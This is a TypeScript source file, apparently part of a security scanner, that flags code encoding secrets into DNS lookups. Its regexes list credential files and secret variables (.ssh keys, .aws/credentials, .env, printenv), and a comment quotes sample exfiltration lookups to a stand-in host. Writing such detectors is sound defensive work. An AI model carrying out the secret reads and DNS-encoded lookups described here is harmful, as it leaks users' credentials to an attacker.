import type { AgentFinding } from '@vigil/core';
import { referenceFinding } from '../common/reference-finding.js';

// Where a secret comes from: a named secret variable, a credential file, a whole .env or the whole environment
// (one named variable that is not a secret, `os.environ.get("DOMAIN")`, is configuration).
const SECRET_SOURCE =
  /\b[A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|_KEY)\b|\.ssh\/|id_rsa|id_ed25519|\.aws\/credentials|\.npmrc|\.netrc|\.git-credentials|(?:cat|source|open|readFileSync|read_text|load_dotenv)\b[^\n]{0,40}\.env\b|\bos\.environ\b(?!\s*(?:\.get\(|\[))|\bprocess\.env\b(?!\s*(?:\.|\[))|(?:^|[|;&(]\s*)(?:env|printenv)\s*(?:\||$|\))/m;
// A name lookup: resolver tools in shell or a subprocess list, and resolver APIs of Python and Node.
const LOOKUP =
  /\b(?:nslookup|dig|drill|ping6?|getent\s+hosts|resolvectl\s+query)\b|(?:^|[;&|(`]\s*)host\s+["'$\w-]|["']host["']\s*,|\b(?:socket\.)?(?:gethostbyname(?:_ex)?|getaddrinfo)\s*\(|\bdns\.(?:lookup|resolve\w*|promises\.\w+)\s*\(|\bresolver\.(?:resolve|query)\s*\(|\bResolver\(\)\.(?:resolve|query)\s*\(/;
// An assignment: shell `x=…`, Python/JS `x = …` / `const x = …`, and a for loop's targets.
const ASSIGNMENT = /^\s*(?:export\s+|local\s+|(?:const|let|var)\s+)?([A-Za-z_][\w]*)\s*=(?!=)\s*(.+)$/;
const FOR_TARGETS = /^\s*for\s+([\w\s,()]+?)\s+in\s+(.+?):?\s*$|^\s*for\s*\(\s*(?:const|let|var)\s+([\w\s,[\]{}]+?)\s+of\s+(.+)\)/;
// A variable interpolated into a host name: `${x}.`, `$x.`, `{x}.` (f-string), `x + '.'`, `$(…).`.
function interpolatedNames(line: string): string[] {
  const names: string[] = [];
  for (const m of line.matchAll(/\$\{?([A-Za-z_]\w*)\}?\.[A-Za-z0-9{$]|\{([A-Za-z_]\w*)(?:\[[^\]]*\])?\}\.[A-Za-z0-9{]|\b([A-Za-z_]\w*)\s*\+\s*['"`]\.|\$\(([^)]*)\)\.[A-Za-z0-9]/g)) {
    const name = m[1] ?? m[2] ?? m[3];
    if (name !== undefined) names.push(name);
    if (m[4] !== undefined) names.push(`$(${m[4]})`);
  }
  return names;
}

/**
 * DNS as an exfiltration channel: a secret, usually encoded (base64, hex) and cut into labels,
 * becomes part of a host name that is looked up (`nslookup "$id.x.example"`,
 * `socket.gethostbyname(f"{part}.x.example")`). The query reaches the attacker's name server through
 * any resolver, past egress filters. Data flow by name within the file: the variables in the host
 * name, followed back through assignments and loop targets, must reach a secret source. A lookup
 * of a configured host (`dig "$DOMAIN"`) has no secret behind it and stays quiet.
 */
export function dnsExfiltrationFinding(file: string, text: string, subject: string): AgentFinding | null {
  if (text.length > 1_000_000 || !LOOKUP.test(text) || !SECRET_SOURCE.test(text)) return null;
  const lines = text.split('\n');
  const tainted = new Set<string>();
  const mentions = (expr: string) => SECRET_SOURCE.test(expr) || [...tainted].some((n) => new RegExp(`(?<![\\w.])\\$?\\{?${n}\\b`).test(expr));
  // Assignments in file order, repeated so that a value defined after its use in a function still flows.
  for (let pass = 0; pass < 3; pass++) {
    const before = tainted.size;
    for (const line of lines) {
      const a = ASSIGNMENT.exec(line);
      if (a?.[1] !== undefined && mentions(a[2] ?? '')) tainted.add(a[1]);
      const f = FOR_TARGETS.exec(line);
      const targets = f?.[1] ?? f?.[3];
      const source = f?.[2] ?? f?.[4];
      if (targets !== undefined && source !== undefined && mentions(source)) for (const t of targets.match(/[A-Za-z_]\w*/g) ?? []) tainted.add(t);
    }
    if (tainted.size === before) break;
  }
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i] ?? '';
    if (!LOOKUP.test(line)) continue;
    const leaked = interpolatedNames(line).find((n) => (n.startsWith('$(') ? SECRET_SOURCE.test(n) : tainted.has(n)));
    if (leaked === undefined) continue;
    return referenceFinding({ category: 'exfiltration', severity: 'CRIT', title: `${subject} encodes secrets into DNS lookups (DNS exfiltration)`, file, line: i + 1, evidence: `${line.trim().slice(0, 200)} (host name built from ${leaked})` });
  }
  return null;
}
